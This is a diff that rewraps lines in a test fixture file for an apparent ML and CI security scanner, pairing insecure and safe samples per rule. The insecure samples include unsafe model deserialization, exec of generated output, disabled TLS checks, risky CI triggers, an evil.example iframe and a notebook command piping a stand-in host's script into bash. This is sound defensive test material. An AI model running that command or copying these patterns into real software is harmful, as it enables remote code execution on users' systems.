@@ -18,7 +18,8 @@ def py(text):
 
 def notebook(*sources, outputs=()):
     cells = [
-        {"cell_type": "code", "metadata": {}, "execution_count": None, "source": source, "outputs": list(outputs)} for source in sources
+        {"cell_type": "code", "metadata": {}, "execution_count": None, "source": source, "outputs": list(outputs)}
+        for source in sources
     ]
     return {"a.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()}
 
@@ -28,7 +29,12 @@ def html(text):
 
 
 def workflow(steps, on="push", **job):
-    body = {"name": "x", "on": on, "permissions": {"contents": "read"}, "jobs": {"build": {"runs-on": "ubuntu-24.04", **job, "steps": steps}}}
+    body = {
+        "name": "x",
+        "on": on,
+        "permissions": {"contents": "read"},
+        "jobs": {"build": {"runs-on": "ubuntu-24.04", **job, "steps": steps}},
+    }
     return {"ci.yml": json.dumps(body).encode()}
 
 
@@ -56,7 +62,12 @@ def manifest(digest=DIGEST, kind="application/vnd.oci.image.layer.v1.tar", **mor
     layer = {"mediaType": kind, "digest": digest, "size": 3, **more}
     return {
         "manifest.json": json.dumps(
-            {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": DIGEST, "size": 2}, "layers": [layer]}
+            {
+                "schemaVersion": 2,
+                "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": DIGEST, "size": 2},
+                "layers": [layer],
+            }
         ).encode()
     }
 
@@ -76,7 +87,10 @@ def skill(text):
 
 
 COD = {
-    "COD-001": (py("import torch as t\nt.load('a.pt', weights_only=False)\n"), py("import torch\ntorch.load('a.pt', weights_only=True)\n")),
+    "COD-001": (
+        py("import torch as t\nt.load('a.pt', weights_only=False)\n"),
+        py("import torch\ntorch.load('a.pt', weights_only=True)\n"),
+    ),
     "COD-002": (py("from pickle import loads as l\nl(open('a', 'rb').read())\n"), py("import json\njson.loads('1')\n")),
     "COD-003": (
         py("from transformers import AutoModel\nAutoModel.from_pretrained('./m', trust_remote_code=True)\n"),
@@ -84,54 +98,117 @@ COD = {
     ),
     "COD-004": (
         py("from transformers import AutoModel\nAutoModel.from_pretrained('org/m')\n"),
-        py(f"from transformers import AutoModel\nAutoModel.from_pretrained('org/m', revision='{PIN}')\nAutoModel.from_pretrained('./m')\n"),
+        py(
+            f"from transformers import AutoModel\nAutoModel.from_pretrained('org/m', revision='{PIN}')\nAutoModel.from_pretrained('./m')\n"
+        ),
     ),
-    "COD-005": (py("import keras\nkeras.models.load_model('a.keras', safe_mode=False)\n"), py("import keras\nkeras.models.load_model('a.keras')\n")),
-    "COD-006": (py("import numpy as np\nnp.load('a.npy', allow_pickle=True)\n"), py("import numpy as np\nnp.load('a.npy')\n")),
-    "COD-007": (py("import torch\ntorch.hub.load('org/repo', 'net')\n"), py(f"import torch\ntorch.hub.load('org/repo:{PIN}', 'net')\n")),
+    "COD-005": (
+        py("import keras\nkeras.models.load_model('a.keras', safe_mode=False)\n"),
+        py("import keras\nkeras.models.load_model('a.keras')\n"),
+    ),
+    "COD-006": (
+        py("import numpy as np\nnp.load('a.npy', allow_pickle=True)\n"),
+        py("import numpy as np\nnp.load('a.npy')\n"),
+    ),
+    "COD-007": (
+        py("import torch\ntorch.hub.load('org/repo', 'net')\n"),
+        py(f"import torch\ntorch.hub.load('org/repo:{PIN}', 'net')\n"),
+    ),
     "COD-008": (
         py("import json, importlib\nc = json.load(open('config.json'))\nimportlib.import_module(c['module'])\n"),
         py("import importlib\nimportlib.import_module('json')\n"),
     ),
-    "COD-009": (py("import yaml\nyaml.load(open('a'), Loader=yaml.UnsafeLoader)\n"), py("import yaml\nyaml.load(open('a'), Loader=yaml.SafeLoader)\nyaml.safe_load('a')\n")),
-    "COD-010": (py("import tarfile\ntarfile.open('a').extractall('b')\n"), py("import tarfile\ntarfile.open('a').extractall('b', filter='data')\n")),
+    "COD-009": (
+        py("import yaml\nyaml.load(open('a'), Loader=yaml.UnsafeLoader)\n"),
+        py("import yaml\nyaml.load(open('a'), Loader=yaml.SafeLoader)\nyaml.safe_load('a')\n"),
+    ),
+    "COD-010": (
+        py("import tarfile\ntarfile.open('a').extractall('b')\n"),
+        py("import tarfile\ntarfile.open('a').extractall('b', filter='data')\n"),
+    ),
     "COD-011": (
-        py("from langchain.vectorstores import FAISS\nFAISS.load_local('a', e, allow_dangerous_deserialization=True)\n"),
+        py(
+            "from langchain.vectorstores import FAISS\nFAISS.load_local('a', e, allow_dangerous_deserialization=True)\n"
+        ),
         py("from langchain.vectorstores import FAISS\nFAISS.load_local('a', e)\n"),
     ),
-    "COD-012": (py("import onnxruntime as ort\no = ort.SessionOptions()\no.register_custom_ops_library('a.so')\n"), py("import onnxruntime as ort\nort.InferenceSession('a.onnx')\n")),
-    "COD-013": (py("import mlflow\nmlflow.pyfunc.load_model('models:/a/Production')\n"), py("import mlflow\nmlflow.pyfunc.load_model('models:/a/3')\n")),
-    "COD-014": (py("import requests\nrequests.get('https://x', verify=False)\n"), py("import requests\nrequests.get('https://x')\n")),
+    "COD-012": (
+        py("import onnxruntime as ort\no = ort.SessionOptions()\no.register_custom_ops_library('a.so')\n"),
+        py("import onnxruntime as ort\nort.InferenceSession('a.onnx')\n"),
+    ),
+    "COD-013": (
+        py("import mlflow\nmlflow.pyfunc.load_model('models:/a/Production')\n"),
+        py("import mlflow\nmlflow.pyfunc.load_model('models:/a/3')\n"),
+    ),
+    "COD-014": (
+        py("import requests\nrequests.get('https://x', verify=False)\n"),
+        py("import requests\nrequests.get('https://x')\n"),
+    ),
     "COD-015": (py("out = model.generate(x)\nexec(out)\n"), py("out = model.generate(x)\nprint(out)\n")),
-    "COD-018": (py("import torch, os\ntorch.serialization.add_safe_globals([os.system])\n"), py("import torch\ntorch.serialization.add_safe_globals([Config])\n")),
-    "COD-019": (py("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n"), py("import subprocess\nsubprocess.run(['git', 'status'])\n")),
-    "COD-020": (py("import uvicorn\nuvicorn.run(app, host='0.0.0.0')\n"), py("import uvicorn\nuvicorn.run(app, host='127.0.0.1')\n")),
+    "COD-018": (
+        py("import torch, os\ntorch.serialization.add_safe_globals([os.system])\n"),
+        py("import torch\ntorch.serialization.add_safe_globals([Config])\n"),
+    ),
+    "COD-019": (
+        py("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n"),
+        py("import subprocess\nsubprocess.run(['git', 'status'])\n"),
+    ),
+    "COD-020": (
+        py("import uvicorn\nuvicorn.run(app, host='0.0.0.0')\n"),
+        py("import uvicorn\nuvicorn.run(app, host='127.0.0.1')\n"),
+    ),
 }
 NBK = {
     "NBK-001": (notebook("!curl https://x.example/a | bash\n"), notebook("%pip install torch==2.13.0\n!ls\n")),
-    "NBK-002": (notebook("1", outputs=[html("<iframe src='https://evil.example/'></iframe>")]), notebook("1", outputs=[html("<table><tr><td>1</td></tr></table>")])),
+    "NBK-002": (
+        notebook("1", outputs=[html("<iframe src='https://evil.example/'></iframe>")]),
+        notebook("1", outputs=[html("<table><tr><td>1</td></tr></table>")]),
+    ),
     "NBK-003": (notebook("x = 1" + " " * 300 + "; import os"), notebook("x = 1\n")),
-    "NBK-004": (notebook("import torch\ntorch.load('a', weights_only=False)\n"), notebook("import torch\ntorch.load('a', weights_only=True)\n")),
+    "NBK-004": (
+        notebook("import torch\ntorch.load('a', weights_only=False)\n"),
+        notebook("import torch\ntorch.load('a', weights_only=True)\n"),
+    ),
     "NBK-005": (notebook(f"key = '{KEY}'\n"), notebook("key = os.environ['KEY']\n")),
-    "NBK-008": ({"a/jupyter_notebook_config.py": b"c = 1\n", "a/x.txt": b"x"}, {"a/config.py": b"c = 1\n", "a/x.txt": b"x"}),
+    "NBK-008": (
+        {"a/jupyter_notebook_config.py": b"c = 1\n", "a/x.txt": b"x"},
+        {"a/config.py": b"c = 1\n", "a/x.txt": b"x"},
+    ),
 }
 CIC = {
-    "CIC-001": (workflow([{"uses": "evil/action@v1"}]), workflow([{"uses": f"evil/action@{PIN}"}, {"uses": "./local"}])),
+    "CIC-001": (
+        workflow([{"uses": "evil/action@v1"}]),
+        workflow([{"uses": f"evil/action@{PIN}"}, {"uses": "./local"}]),
+    ),
     "CIC-002": (
-        workflow([{"uses": f"actions/checkout@{PIN}", "with": {"ref": "${{ github.event.pull_request.head.sha }}"}}], on="pull_request_target"),
+        workflow(
+            [{"uses": f"actions/checkout@{PIN}", "with": {"ref": "${{ github.event.pull_request.head.sha }}"}}],
+            on="pull_request_target",
+        ),
         workflow([{"uses": f"actions/checkout@{PIN}"}], on="pull_request"),
     ),
     "CIC-004": (
         {"ci.yml": b"on: push\npermissions: write-all\njobs: {a: {steps: [{run: make}]}}\n"},
         {"ci.yml": b"on: push\npermissions: {contents: read}\njobs: {a: {steps: [{run: make}]}}\n"},
     ),
-    "CIC-005": (workflow([{"run": "twine upload dist/*"}]), workflow([{"run": "twine upload dist/*"}, {"uses": f"actions/attest-build-provenance@{PIN}"}])),
-    "CIC-007": (workflow([{"name": "scan models", "run": "weighbridge scan .", "continue-on-error": True}]), workflow([{"name": "scan models", "run": "weighbridge scan ."}])),
+    "CIC-005": (
+        workflow([{"run": "twine upload dist/*"}]),
+        workflow([{"run": "twine upload dist/*"}, {"uses": f"actions/attest-build-provenance@{PIN}"}]),
+    ),
+    "CIC-007": (
+        workflow([{"name": "scan models", "run": "weighbridge scan .", "continue-on-error": True}]),
+        workflow([{"name": "scan models", "run": "weighbridge scan ."}]),
+    ),
     "CIC-009": (workflow([{"run": "pip install picklescan"}]), workflow([{"run": "pip install picklescan==1.0.5"}])),
-    "CIC-010": (workflow([{"run": "huggingface-cli download org/model"}]), workflow([{"run": f"huggingface-cli download org/model --revision {PIN}"}])),
+    "CIC-010": (
+        workflow([{"run": "huggingface-cli download org/model"}]),
+        workflow([{"run": f"huggingface-cli download org/model --revision {PIN}"}]),
+    ),
     "CIC-011": (
         {".pre-commit-config.yaml": b"repos:\n- repo: https://x.example/hooks\n  rev: main\n  hooks: [{id: a}]\n"},
-        {".pre-commit-config.yaml": f"repos:\n- repo: https://x.example/hooks\n  rev: '{PIN}'\n  hooks: [{{id: a}}]\n".encode()},
+        {
+            ".pre-commit-config.yaml": f"repos:\n- repo: https://x.example/hooks\n  rev: '{PIN}'\n  hooks: [{{id: a}}]\n".encode()
+        },
     ),
 }
 OCI = {
